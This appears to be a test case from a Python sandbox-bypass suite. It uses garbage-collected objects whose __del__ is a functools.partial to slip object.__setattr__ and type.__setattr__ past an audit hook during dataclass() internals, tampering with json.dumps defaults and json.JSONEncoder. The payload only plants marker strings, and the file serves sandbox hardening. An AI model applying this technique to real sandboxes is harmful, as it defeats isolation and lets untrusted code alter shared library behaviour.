# technique: same C-partial __del__ on cyclic garbage, collected while dataclass() runs: the gen0 collection lands in ast.parse (the _create_fn wrapper's text check) or the real _create_fn, both exec-allowed, so object.__setattr__(json.dumps, "__kwdefaults__", ...) passes the audit hook and type.__setattr__ modifies json.JSONEncoder; no namedtuple involved
# expect: any
import dataclasses, functools, operator, json
def default(o):
    return "planted: " + repr(o)
kw = dict(skipkeys=False, ensure_ascii=True, check_circular=True, allow_nan=True, cls=None,
          indent=None, separators=None, default=default, sort_keys=False)
# __del__ = a C partial: runs with whatever frame is on top when the GC collects it
G = type("G", (), {"__del__": functools.partial(operator.call, object.__setattr__, json.dumps, "__kwdefaults__", kw)})
H = type("H", (), {"__del__": functools.partial(operator.call, type.__setattr__, json.JSONEncoder, "item_separator", "<<stdlib class modified>>")})
for i in range(3000):
    g = G(); g.me = g; h = H(); h.me = h; del g, h
    # dataclass() runs ast.parse (the wrapper's text check) and the real _create_fn: both
    # exec-allowed frames that allocate a lot, so gen0 collections land inside them
    dataclasses.dataclass(type("C", (), {"__module__": "__main__", "__annotations__": {"a": int, "b": str}}))
    if json.JSONEncoder.item_separator != ", ":
        try:
            json.dumps(object())
            break
        except TypeError:
            pass
print(i, json.dumps([object(), 1]))
